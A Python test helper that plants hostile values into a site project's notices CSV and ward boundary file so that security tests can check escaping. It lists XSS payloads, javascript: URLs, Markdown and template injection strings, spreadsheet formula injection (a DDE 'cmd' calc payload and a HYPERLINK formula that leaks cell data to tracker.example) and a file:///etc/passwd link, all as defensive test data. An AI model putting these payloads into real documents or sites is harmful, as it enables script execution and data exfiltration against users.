"""Hostile values, and helpers that plant them in a project's export, boundary file and
configuration (tests/test_untrusted.py, tests/test_hostile_input.py)."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path

from conftest import Project

# What someone could type into a back-office system, a boundary file or the
# configuration to make the site run, load or link something.
HTML = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>',
        '"><svg onload=alert(1)>', "'><b>bold</b>", '</td></tr></table><p>out',
        '<a href="https://tracker.example/">link</a>', '&lt;b&gt; &amp;amp;']
MARKDOWN = ['[click me](javascript:alert(1))', '![x](https://tracker.example/pixel.png)',
            '<https://tracker.example/auto>', '*em* _em_ `code` **b**', '# heading',
            '| a | b |', '{: .admonition onclick="alert(1)"}', '!!! danger "x"',
            '1. listed', '> quoted', '[x]: javascript:alert(1)', '\\*not em\\*']
URLS = ['JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', ' javascript:alert(1)',
        'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)',
        '//tracker.example/x.pdf', 'https:tracker.example', 'file:///etc/passwd']
FORMULAS = ['=HYPERLINK("https://tracker.example/?"&A1,"x")', '+1+1', '-2+3',
            '@SUM(1,1)', '=cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1']
TEMPLATES = ['{{ 7*7 }}', '{% if 1 %}x{% endif %}', '{# c #}']
UNICODE = ['\u202eevil\u202c', '\u2066isolated\u2069', 'zero\u200bwidth', 'Ysgol Llanŵ',
           'ＡＢＣ', '\ufeffbom']
TRACKER_HOST = "tracker.example"


def read_table(path: Path) -> list[dict[str, str]]:
    """The rows of an export CSV (the sample is Windows-1252), by header."""
    data = path.read_bytes()
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError:
        text = data.decode("cp1252")
    return list(csv.DictReader(text.splitlines(keepends=True)))


def write_table(path: Path, rows: list[dict[str, str]]) -> None:
    """Written back as UTF-8, which the reader detects; any value survives."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\r\n")
        writer.writeheader()
        writer.writerows(rows)


def rewrite_notices(project: Project, change: Callable[[int, dict[str, str]], None]
                    ) -> list[dict[str, str]]:
    """Apply `change(index, row)` to every row of the export's notices file."""
    path = project.export / "notices.csv"
    rows = read_table(path)
    for index, row in enumerate(rows):
        change(index, row)
    write_table(path, rows)
    return rows


def rename_wards(project: Project, name: Callable[[int, str], str]) -> list[str]:
    """Give every ward in the boundary file a new name; returns them in file order."""
    path = project.export / "wards.geojson"
    data = json.loads(path.read_text(encoding="utf-8"))
    names = []
    for index, feature in enumerate(data["features"]):
        feature["properties"]["name"] = name(index, feature["properties"]["name"])
        names.append(feature["properties"]["name"])
    path.write_text(json.dumps(data), encoding="utf-8")
    return names


# The exact payloads of the three holes an independent check found (issue 17).
DOCUMENT = "JaVaScRiPt:alert(1)"
ADDRESS = "[click me](javascript:alert(1))"
IMAGE = "![x](https://tracker.example/pixel.png)"
PAYLOAD_FORMULAS = {
    "Breach Summary": '=HYPERLINK("https://tracker.example/?"&A1,"x")',
    "Requirements": "+1+1", "Activity Prohibited": "-2+3", "Compliance Period": "@SUM(1,1)",
    "Permission Ref": "=1+1"}
WARD_HTML = "<img src=x onerror=alert(1)>"
WARD_FORMULA = "=cmd|' /C calc'!A0"


def plant_payloads(project: Project) -> list[dict[str, str]]:
    """Every notice gets the document link and the formulas; every address is a
    Markdown link and every reference a Markdown image; the wards are named with HTML
    and with a formula, in turn."""
    def change(index: int, row: dict[str, str]) -> None:
        row["Document"] = DOCUMENT
        row["Site Address"] = f"{ADDRESS} {index}"
        row["Notice Ref"] = f"{IMAGE} {index}"
        row.update({column: f"{value} {index}" for column, value in PAYLOAD_FORMULAS.items()})

    rows = rewrite_notices(project, change)
    rename_wards(project, lambda i, _: f"{WARD_HTML if i % 2 else WARD_FORMULA} {i}")
    return rows
